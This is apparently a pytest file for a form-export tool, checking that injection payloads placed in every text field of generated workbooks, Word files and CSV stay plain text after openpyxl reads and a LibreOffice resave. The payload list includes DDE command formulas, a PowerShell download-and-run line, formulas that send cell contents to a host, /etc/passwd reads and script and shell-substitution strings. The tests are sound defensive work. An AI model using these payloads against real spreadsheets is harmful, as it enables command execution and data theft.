"""What a stranger writes into a text is never run: it comes back equal from openpyxl and from LibreOffice."""

import io
import json
import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from api.schemas import load_document
from indicators.forms import wordfile, workbook
from indicators.forms.grid import Grid, Page
from indicators.forms.writing import pages

SAMPLE = Path(__file__).parents[3] / "samples" / "mohrss-2023-egov.json"
PAYLOADS = [
    "=1+1",
    "=100%",
    "=cmd|'/c calc'!A0",
    "=cmd|' /C powershell IEX(wget 127.0.0.1/x)'!A0",
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|'/c calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"点击")',
    '=WEBSERVICE("http://127.0.0.1:9/"&A1)',
    '=IMPORTXML("http://127.0.0.1:9/","//a")',
    '=DDE("soffice","/etc/passwd","A1")',
    "='file:///etc/passwd'#$passwd.A1",
    "=INDIRECT(ADDRESS(1,1))",
    "{=1+1}",
    "==1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    ";=1+1",
    " =1+1",
    "＝1＋1",
    "=1+1\n=2+2",
    "\t=1+1",
    "%0A=1+1",
    "$(touch x)",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "&amp;=1&lt;",
    "TRUE",
    "1e5",
    "2024-01-31",
    "0012",
]


def poisoned(payload: str) -> Any:
    """A sample with the payload in every text."""
    value = json.loads(SAMPLE.read_text(encoding="utf-8"))
    for part in ("agency", "department", "project"):
        value[part] = {"name": payload}
    value["notes"] = [payload]
    for objective in value["objectives"]:
        objective |= {"text": payload, "achieved": payload}
        for line in objective["indicators"]:
            line |= {"name": payload, "target": payload, "actual": payload, "explanation": {"reason": payload}}
    return load_document(value)


@pytest.fixture(scope="module")
def drawn() -> list[Page]:
    """A form for each payload."""
    return pages([poisoned(payload) for payload in PAYLOADS], "central")[0]


@pytest.fixture(scope="module")
def resaved(drawn: list[Page], tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The workbook as LibreOffice opens and saves it."""
    folder = tmp_path_factory.mktemp("office")
    (folder / "forms.xlsx").write_bytes(workbook.write(drawn))
    profile = f"-env:UserInstallation=file://{folder}/profile"
    command = [
        "soffice",
        profile,
        "--headless",
        "--convert-to",
        "xlsx:Calc MS Excel 2007 XML",
        "--outdir",
        "out",
        "forms.xlsx",
    ]
    subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=120)
    return (folder / "out" / "forms.xlsx").read_bytes()


def holds(grid: Grid, payload: str) -> int:
    """How many boxes of a table show the payload; none of them was computed."""
    assert not any(cell.formula for row in grid.rows for cell in row)
    return len({id(cell) for row in grid.rows for cell in row if cell.text == payload})


# Names, goals, 8 lines of four texts, the note.
TEXTS = 3 + 2 + 8 * 4 + 1


def test_openpyxl_reads_every_payload_as_the_text_that_it_is(drawn: list[Page]) -> None:
    book: Any = openpyxl.load_workbook(io.BytesIO(workbook.write(drawn)))
    for sheet, payload in zip(book.worksheets, PAYLOADS, strict=True):
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert {cell.data_type for cell in cells} <= {"s", "n"}
        assert sum(cell.value == payload and cell.data_type == "s" for cell in cells) >= TEXTS - 8


@pytest.mark.office
def test_libreoffice_reads_every_payload_as_the_text_that_it_is(resaved: bytes) -> None:
    grids = workbook.read_xlsx(resaved).grids
    assert [holds(grid, payload) for grid, payload in zip(grids, PAYLOADS, strict=True)] == [TEXTS] * len(PAYLOADS)


def test_our_own_readers_give_every_payload_back(drawn: list[Page]) -> None:
    for payload, grid in zip(PAYLOADS, workbook.read_xlsx(workbook.write(drawn)).grids, strict=True):
        assert holds(grid, payload) == TEXTS
    for payload, grid in zip(PAYLOADS, wordfile.read(wordfile.write(drawn)).grids, strict=True):
        assert holds(grid, payload) == TEXTS
    for payload, page in zip(PAYLOADS, drawn, strict=True):
        (grid,) = workbook.read_csv(workbook.write_csv([page])).grids
        assert holds(grid, payload) >= TEXTS
